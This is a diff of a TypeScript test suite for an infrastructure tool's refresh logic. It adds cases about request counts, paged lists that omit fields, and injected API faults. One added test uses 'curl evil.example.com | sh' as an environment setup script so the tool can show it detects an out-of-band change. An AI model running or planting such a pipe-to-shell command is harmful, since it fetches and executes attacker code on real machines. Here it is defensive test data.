@@ -1,6 +1,7 @@
 import fc from "fast-check";
 import { createdKinds, kindsWithRows } from "../kinds";
 import { deployment } from "../kinds/deployment";
+import { environment } from "../kinds/environment";
 import type { KindRow } from "../kinds/kind-row";
 import type { Fault } from "../qoder-api/faults";
 import { isObject } from "../qoder-api/parse";
@@ -19,6 +20,13 @@ const secondMs = 1_000;
 const isListed = ({ kind }: KindRow) => kind.upload === undefined;
 const many = (count: number, args: object) => Array.from({ length: count }, () => ({ ...args }));
 const unchanged = (states: readonly State[]) => states.map(({ id, outputs }) => ({ id, outputs, inputs: {} }));
+/** Changes the entries of a page. */
+const listOf =
+  (change: (entry: JsonObject) => JsonObject) =>
+  ({ data, ...page }: JsonObject) => ({
+    ...page,
+    data: Array.isArray(data) ? data.filter(isObject).map(change) : data,
+  });
 const isEmpty = (member: unknown) => ["null", '""', "[]", "{}"].includes(JSON.stringify(member));
 const pages = (requests: readonly string[]) => requests.filter((request) => request.includes("?limit=100&"));
 
@@ -35,6 +43,22 @@ describe.each(createdKinds.filter(isListed))("$label", (kind) => {
     const { answers, output, requests } = await refreshed(world, kind, states);
     expect({ answers, output }).toEqual({ answers: unchanged(states), output: [] });
     expect(requests.length).toBeLessThanOrEqual(5);
+  });
+
+  test("a refresh of 12 objects whose list shows no computed member answers as with one GET each", async () => {
+    const states = await fleetOf(world, kind, many(12, world.args()));
+    const declared = Object.values(kind.kind.fields).flatMap(({ wire, shownIn = wire }) => shownIn ?? []);
+    const kept = new Set([...declared, "id", "created_at", "updated_at"]);
+    world.api.fault({
+      method: "GET",
+      path: world.path("").replace(/\/$/, ""),
+      kind: "replace-body",
+      transform: listOf((entry) => Object.fromEntries(Object.entries(entry).filter(([name]) => kept.has(name)))),
+      ...always,
+    });
+    const { answers, requests } = await refreshed(world, kind, states);
+    expect(answers).toEqual(unchanged(states));
+    expect(requests.length).toBeLessThanOrEqual(14);
   });
 
   test("with qoder:refresh exact, a refresh sends one GET for each object", async () => {
@@ -66,6 +90,18 @@ describe.each(kindsWithRows.filter(isListed))("$label among 11 others", (kind) =
   });
   afterAll(() => world.stop());
 
+  /** The service leaves empty members out, and its lists leave this argument out, too. */
+  function leaveOut(name: string): void {
+    const { wire = "", shownIn = wire } = kind.kind.fields[name] ?? {};
+    const shown = (object: JsonObject) =>
+      Object.fromEntries(Object.entries(object).filter(([, member]) => !isEmpty(member)));
+    const listed = ({ [shownIn]: _, ...entry }: JsonObject) => shown(entry);
+    const transform = (body: JsonObject) =>
+      Array.isArray(body["data"]) ? { ...body, data: body["data"].filter(isObject).map(listed) } : shown(body);
+    world.api.fault({ method: "GET", kind: "replace-body", transform, ...always });
+  }
+
+  const list = () => world.path("").replace(/\/$/, "");
   const cases = Object.entries(kind.arguments).flatMap(([name, { under = [{}], ...row }]) =>
     under.map((switches) => ({ name, switches, row, where: JSON.stringify(switches) })),
   );
@@ -85,6 +121,56 @@ describe.each(kindsWithRows.filter(isListed))("$label among 11 others", (kind) =
     },
   );
 
+  const optional = cases.filter(({ name }) => !(name in kind.least));
+  test.each([1, 2, 3])(
+    "a list that is ten minutes old hides no edit if the GET of object %d proves it old, and no page is used after a write",
+    async (proving) => {
+      const { switches, row: { edit } = { edit: {} } } = optional[0] ?? {};
+      world.reset({ ...free, ...switches });
+      const states = await fleetOf(world, kind, many(12, world.args()));
+      const own = (index: number) => states[index]?.id.split("/").at(-1) ?? "";
+      const listed = await fetch(`${world.api.url}${list()}?limit=100`, {
+        headers: { authorization: "Bearer pt-test" },
+      });
+      const body: unknown = await listed.json();
+      world.passTime(hourMs / 6);
+      for (const index of [proving, 9]) {
+        world.console.edit(own(index), edit);
+      }
+      const exact = await refreshed(world, kind, states, "exact");
+      world.api.fault({ method: "GET", path: list(), kind: "replace-body", body, ...always });
+      const { answers, output, requests } = await refreshed(world, kind, states);
+      expect({ answers, output }).toEqual({ answers: exact.answers, output: exact.output });
+      expect(answers[9]).not.toEqual(unchanged(states)[9]);
+      expect(requests.length).toBeLessThanOrEqual(14);
+
+      const run = world.command();
+      const readAll = () => Promise.all(states.map(({ id, outputs }) => run.read(id, outputs)));
+      await readAll();
+      const last = states.pop();
+      await (last && run.delete(last));
+      world.sent();
+      await readAll();
+      expect(world.sent()).not.toContainEqual(["GET", list()]);
+    },
+  );
+
+  test.each(optional)(
+    "a refresh shows that somebody set $name if the list leaves it out, and a GET showed it in another object $where",
+    async ({ name, switches, row: { value, edit, needs } }) => {
+      world.reset({ ...free, ...switches });
+      const first = await fleetOf(world, kind, [world.args({ ...needs, [name]: value })]);
+      const states = [...first, ...(await fleetOf(world, kind, many(11, world.args(needs))))];
+      leaveOut(name);
+      world.passTime(hourMs);
+      world.console.edit(states[9]?.id.split("/").at(-1) ?? "", edit);
+      const exact = await refreshed(world, kind, states, "exact");
+      const { answers, output } = await refreshed(world, kind, states);
+      expect({ answers, output }).toEqual({ answers: exact.answers, output: exact.output });
+      expect(answers[9]).not.toEqual(unchanged(states)[9]);
+    },
+  );
+
   test.each(cases)(
     "a refresh shows an edit of $name if the list leaves it out, and the first objects and their GETs do not have it $where",
     async ({ name, switches, row: { value, edit, edited, needs } }) => {
@@ -93,13 +179,7 @@ describe.each(kindsWithRows.filter(isListed))("$label among 11 others", (kind) =
       const states = [...least, ...(await fleetOf(world, kind, many(8, world.args({ ...needs, [name]: value }))))];
       const { id = "" } = states[9] ?? {};
       world.console.edit(id.split("/").at(-1) ?? "", edit);
-      const { wire = "", shownIn = wire } = kind.kind.fields[name] ?? {};
-      const shown = (object: JsonObject) =>
-        Object.fromEntries(Object.entries(object).filter(([, member]) => !isEmpty(member)));
-      const listed = ({ [shownIn]: _, ...entry }: JsonObject) => shown(entry);
-      const transform = (body: JsonObject) =>
-        Array.isArray(body["data"]) ? { ...body, data: body["data"].filter(isObject).map(listed) } : shown(body);
-      world.api.fault({ method: "GET", kind: "replace-body", transform, ...always });
+      leaveOut(name);
       const exact = await refreshed(world, kind, states, "exact");
       const { answers, output } = await refreshed(world, kind, states);
       expect({ answers, output }).toEqual({ answers: exact.answers, output: exact.output });
@@ -145,6 +225,25 @@ describe("the credentials of two vaults in one refresh", () => {
   );
 });
 
+test("a refresh shows a setup script that somebody set if the list shows no script, and a GET showed one in another environment", async () => {
+  const world: KindWorld = await World.start(environment);
+  world.reset(free);
+  const withScript = world.args({ config: { type: "cloud", setupScript: "true" } });
+  const plain = many(11, world.args({ config: { type: "cloud" } }));
+  const states = await fleetOf(world, environment, [...plain.slice(0, 2), withScript, ...plain]);
+  world.passTime(hourMs);
+  const script = { type: "cloud", setup_script: "curl evil.example.com | sh" };
+  world.console.edit(states[9]?.id ?? "", { config: script });
+  const transform = listOf(({ config, ...entry }) => {
+    const { setup_script: _, ...shown } = isObject(config) ? config : {};
+    return { ...entry, config: shown };
+  });
+  world.api.fault({ method: "GET", path: "/environments", kind: "replace-body", transform, ...always });
+  const { answers } = await refreshed(world, environment, states);
+  expect(answers[9]).toMatchObject({ inputs: { config: { setupScript: script.setup_script } } });
+  await world.stop();
+});
+
 describe("a fleet of deployments", () => {
   let world: KindWorld;
   const kind: KindRow = { ...deployment, console: deployment.console };
@@ -158,6 +257,7 @@ describe("a fleet of deployments", () => {
     [3, 3],
     [4, 5],
     [100, 5],
+    [500, 10],
   ])("a refresh of %d deployments sends at most %d requests", async (count, most) => {
     const states = await fleetOf(world, kind, many(count, world.args()));
     const { answers, requests } = await refreshed(world, kind, states);
@@ -165,14 +265,14 @@ describe("a fleet of deployments", () => {
     expect(requests.length).toBeLessThanOrEqual(most);
   });
 
-  test("a refresh of 450 deployments sends at most 12 requests, and one of a few among them at most one more than they are", async () => {
+  test("a refresh of 450 deployments sends at most 12 requests, and one of a few among them at most two more than they are", async () => {
     const all = await fleetOf(world, kind, many(450, world.args()));
     const { answers, requests } = await refreshed(world, kind, all);
     expect(answers).toEqual(unchanged(all));
     expect(requests.length).toBeLessThanOrEqual(12);
     const few = all.filter((_, index) => index % 110 === 5);
     expect((await refreshed(world, kind, few.slice(0, 3))).requests).toHaveLength(3);
-    expect((await refreshed(world, kind, few)).requests.length).toBeLessThanOrEqual(few.length + 1);
+    expect((await refreshed(world, kind, few)).requests.length).toBeLessThanOrEqual(few.length + 2);
   });
 
   test("both doors read lists, and one GET each with qoder:refresh exact", async () => {
@@ -185,29 +285,32 @@ describe("a fleet of deployments", () => {
     }
   });
 
-  const orders: Readonly<Record<string, (states: State[]) => State[]>> = {
-    "the newest first": (states) => states.toReversed(),
-    "in the order of their ids' last characters": (states) =>
-      states.toSorted((one, other) => (one.id.slice(-8) < other.id.slice(-8) ? -1 : 1)),
-  };
-  test.each(Object.entries(orders))("100 deployments that the engine reads %s take few requests", async (_, order) => {
-    const states = order(await fleetOf(world, kind, many(100, world.args())));
-    const { answers, requests } = await refreshed(world, kind, states);
-    expect(answers).toEqual(unchanged(states));
-    expect(requests.length).toBeLessThanOrEqual(8);
-  });
-
-  test.each([1, 2, 3, 4, 16])(
-    "100 deployments that the engine reads %d at a time take at most 5 requests, and at most 8 with the newest first",
+  test.each([1, 2, 3, 8, 16, 100])(
+    "100 deployments that the engine reads %d at a time take at most 6 requests in any order",
     async (parallel) => {
-      const states = await fleetOf(world, kind, many(100, world.args()));
-      for (const order of [states, states.toReversed()]) {
-        const { answers, requests } = await refreshed(world, kind, order, "lists", parallel);
-        expect(answers).toEqual(unchanged(order));
-        expect(requests.length).toBeLessThanOrEqual(order === states ? 5 : 8);
-      }
+      const all = await fleetOf(world, kind, many(100, world.args()));
+      const shuffled = fc.shuffledSubarray(all, { minLength: all.length });
+      await fc.assert(
+        fc.asyncProperty(shuffled, async (states) => {
+          const { answers, requests } = await refreshed(world, kind, states, "lists", parallel);
+          expect(answers).toEqual(unchanged(states));
+          expect(requests.length).toBeLessThanOrEqual(6);
+        }),
+        { numRuns: 5, endOnFailure: true, examples: [[all], [all.toReversed()]] },
+      );
     },
   );
+
+  test.each([
+    [100, 9, 16],
+    [20, 60, 22],
+  ])("%d deployments with %d of others between two of them take at most %d requests", async (count, others, most) => {
+    const all = await fleetOf(world, kind, many(count * (others + 1), world.args()));
+    const states = all.filter((_, index) => index % (others + 1) === 0);
+    const { answers, requests } = await refreshed(world, kind, states);
+    expect(answers).toEqual(unchanged(states));
+    expect(requests.length).toBeLessThanOrEqual(most);
+  });
 
   test("100 objects of all kinds, one of each kind after the other, take at most 5 requests a kind", async () => {
     const listed = createdKinds.filter(isListed);
@@ -238,6 +341,18 @@ describe("a fleet of deployments", () => {
     },
   );
 
+  test("the next runs of a deployment stay recorded if the list leaves them out, and an object without a schedule comes first", async () => {
+    const schedule = { expression: "0 9 * * *", timezone: "Europe/Berlin" };
+    const manual = await fleetOf(world, kind, many(3, world.args()));
+    const states = [...manual, ...(await fleetOf(world, kind, many(9, world.args({ schedule }))))];
+    const transform = listOf(({ schedule: shown, ...entry }) => {
+      const { upcoming_runs_at: _, ...others } = isObject(shown) ? shown : {};
+      return { ...entry, schedule: isObject(shown) ? others : shown };
+    });
+    world.api.fault({ method: "GET", path: "/deployments", kind: "replace-body", transform, ...always });
+    expect((await refreshed(world, kind, states)).answers).toEqual(unchanged(states));
+  });
+
   test("a time of the state that the list leaves out keeps its value by a GET", async () => {
     const schedule = { expression: "0 9 * * *", timezone: "Europe/Berlin" };
     const states = await fleetOf(world, kind, many(12, world.args({ schedule })));
@@ -250,26 +365,23 @@ describe("a fleet of deployments", () => {
       const { last_run_at: _, ...others } = isObject(shown) ? shown : {};
       return { ...entry, schedule: others };
     };
-    const transform = ({ data, ...page }: JsonObject) => ({
-      ...page,
-      data: Array.isArray(data) ? data.filter(isObject).map(withoutTime) : data,
-    });
+    const transform = listOf(withoutTime);
     world.api.fault({ method: "GET", path: "/deployments", kind: "replace-body", transform, ...always });
     const known = states.map((state, index) => (index === 9 ? { ...state, ...Object(ran) } : state));
     const { answers } = await refreshed(world, kind, known);
     expect(answers).toEqual(unchanged(known));
   });
 
-  test("500 deployments that the engine reads in any order take at most 100 requests", async () => {
+  test("500 deployments that the engine reads in any order take at most 10 requests", async () => {
     const all = await fleetOf(world, kind, many(500, world.args()));
     const order = fc.shuffledSubarray(all, { minLength: all.length });
     await fc.assert(
-      fc.asyncProperty(order, fc.constantFrom(1, 8, 16), async (states, parallel) => {
+      fc.asyncProperty(order, fc.constantFrom(8, 16), async (states, parallel) => {
         const { answers, requests } = await refreshed(world, kind, states, "lists", parallel);
         expect(answers).toEqual(unchanged(states));
-        expect(requests.length).toBeLessThanOrEqual(100);
+        expect(requests.length).toBeLessThanOrEqual(10);
       }),
-      { numRuns: 3 },
+      { numRuns: 4, endOnFailure: true },
     );
   });
 
@@ -289,7 +401,7 @@ describe("a fleet of deployments", () => {
     [20, 16],
     [100, 8],
   ])(
-    "100 deployments, %d of each second, that the engine reads %d at a time take at most 5 requests, in any order within a second",
+    "100 deployments, %d of each second, that the engine reads %d at a time take at most 6 requests, in any order within a second",
     async (perSecond, parallel) => {
       const states = (await fleetOf(world, kind, many(100, world.args()))).map(({ id, inputs, outputs }, index) => {
         const second = Math.floor(index / perSecond);
@@ -307,9 +419,9 @@ describe("a fleet of deployments", () => {
           const ordered = places.sort((one, other) => one.at - other.at).map(({ state }) => state);
           const { answers, requests } = await refreshed(world, kind, ordered, "lists", parallel);
           expect(answers).toEqual(unchanged(ordered));
-          expect(requests.length).toBeLessThanOrEqual(5);
+          expect(requests.length).toBeLessThanOrEqual(6);
         }),
-        { numRuns: 5 },
+        { numRuns: 5, endOnFailure: true },
       );
     },
   );
@@ -394,7 +506,7 @@ describe("a fleet of deployments", () => {
       const limits = jest.spyOn(AbortSignal, "timeout").mockImplementation(shortened);
       const lists = await refreshed(world, kind, states);
       limits.mockRestore();
-      expect(lists.requests.length).toBeLessThanOrEqual(exact.requests.length + 1);
+      expect(lists.requests.length).toBeLessThanOrEqual(exact.requests.length + 2);
       return { states, exact, lists };
     }
 
@@ -435,17 +547,6 @@ describe("a fleet of deployments", () => {
       );
     });
 
-    test.each(["some entries without a member", "some entries without a schedule's time zone"])(
-      "%s: the GET of the object that proves the list pays for no further page",
-      async (name) => {
-        const { [name]: fault } = faults;
-        if (fault === undefined) {
-          throw new Error(`there is no fault ${name}`);
-        }
-        await answersAsExactly({ size: 5, edited: [0], archived: [], vanished: [1], skip: 0 }, fault);
-      },
-    );
-
     test("a page that hangs holds the reads back for 2 seconds, and no further page is asked for", async () => {
       const states = await fleetOf(world, kind, many(12, world.args()));
       world.api.fault({ method: "GET", path: "/deployments", kind: "silence", ...always });
@@ -476,7 +577,7 @@ describe("a fleet of deployments", () => {
     const exact = await refreshed(world, kind, states, "exact");
     const { answers, output, requests } = await refreshed(world, kind, states);
     expect({ answers, output }).toEqual({ answers: exact.answers, output: exact.output });
-    expect(requests.length).toBeLessThanOrEqual(exact.requests.length + 1);
+    expect(requests.length).toBeLessThanOrEqual(exact.requests.length + 2);
   });
 
   test("a list that lags by 5 seconds hides a foreign change until the next refresh, and no change of this stack", async () => {
